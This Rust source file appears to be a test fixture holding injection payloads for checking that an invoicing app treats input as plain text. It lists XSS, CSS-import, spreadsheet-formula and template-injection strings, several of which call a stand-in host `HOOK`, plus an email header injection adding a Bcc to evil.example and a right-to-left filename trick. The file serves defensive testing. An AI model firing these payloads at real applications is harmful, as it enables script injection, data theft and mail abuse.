//! What people type to see whether it runs. `HOOK` becomes the address of a server that must never be asked for anything.

/// Text that is taken, and must stay text: short enough for an invoice's number with a suffix.
pub const PAYLOADS: [(&str, &str); 16] = [
    ("script", "<script src=//HOOK/s></script>"),
    ("image", "<img src=//HOOK/i onerror=alert(1)>"),
    ("attribute", "\"><svg/onload=alert(1)>"),
    ("single quote", "' autofocus onfocus=alert(1) x='"),
    ("double quote", "\" autofocus onfocus=alert(1) x=\""),
    ("closed text", "</textarea></title><script>alert(1)</script>"),
    ("svg", "<svg><animate onbegin=alert(1) attributeName=x>"),
    ("style sheet", "</style><style>@import'//HOOK/c'"),
    ("frame", "<iframe srcdoc='<script>alert(1)</script>'>"),
    ("template", "{{7*191}}${7*191}<%=7*191%>#{7*191}{%if 1%}"),
    ("fluent", "{ $amount } { -brand } { \"x\" } {DATETIME($d)}"),
    ("formula", "=HYPERLINK(\"//HOOK\",1)"),
    ("formula behind a mark", "a;=1+1,=2\" ;@SUM(1)"),
    ("link", "javascript:alert(1)//<a href=javascript:alert(1)>"),
    ("comment", "<!--<script>--><img src=//HOOK/m>"),
    ("document", ") Tj ET /JS (app.alert(1)) /OpenAction <</S/URI"),
];

/// Text that would end a line, hide the order of its letters or fill a disk. No field of one line takes it.
pub fn refused() -> Vec<(&'static str, String)> {
    vec![
        ("null", "a\0b".to_owned()),
        ("header", "a\r\nBcc: x@evil.example\r\n\r\n<b>".to_owned()),
        ("line feed", "a\nb".to_owned()),
        ("escape", "a\u{1b}[2J".to_owned()),
        ("next line", "a\u{85}b".to_owned()),
        ("right to left", "a\u{202e}fdp.exe".to_owned()),
        ("isolate", "a\u{2066}b\u{2069}".to_owned()),
        ("very long", "A".repeat(20_000)),
    ]
}

/// A payload for a hook (`127.0.0.1:4000`).
pub fn aimed(payload: &str, hook: &str) -> String {
    payload.replace("HOOK", hook)
}
